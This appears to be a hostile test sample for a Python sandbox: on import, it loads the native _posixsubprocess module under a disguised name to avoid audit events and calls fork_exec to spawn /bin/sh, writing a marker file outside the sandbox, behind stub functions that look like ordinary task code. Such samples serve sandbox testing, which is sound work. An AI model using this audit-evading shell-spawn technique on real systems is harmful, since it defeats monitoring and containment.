"""Hostile case: loads the C module behind subprocess under another name (no import audit event names
it) and calls fork_exec('/bin/sh') to leave a marker file outside the sandbox."""

import importlib.machinery
import importlib.util
import os
import sys

MARKER = "/tmp/labkit_hostile_marker_posix"
for folder in sys.path:
    if not os.path.isdir(folder):
        continue
    for name in os.listdir(folder):
        if name.startswith("_posixsubprocess.") and name.endswith(".so"):
            try:
                loader = importlib.machinery.ExtensionFileLoader("innocent_name", os.path.join(folder, name))
                spec = importlib.util.spec_from_loader("innocent_name", loader)
                native = importlib.util.module_from_spec(spec)
                r, w = os.pipe()
                native.fork_exec([b"/bin/sh"], [b"/bin/sh", b"-c", f"id > {MARKER}".encode()], True, (), None, None,
                                 -1, -1, -1, -1, -1, -1, r, w, False, False, False, None, None, None, -1, None, False)
                print("posixsubprocess: started a shell")
            except BaseException as err:
                print("posixsubprocess:", type(err).__name__, str(err)[:80])


def build_messages(prompt=""):
    raise NotImplementedError


def first_completion(client):
    raise NotImplementedError


def summarize(completion):
    raise NotImplementedError
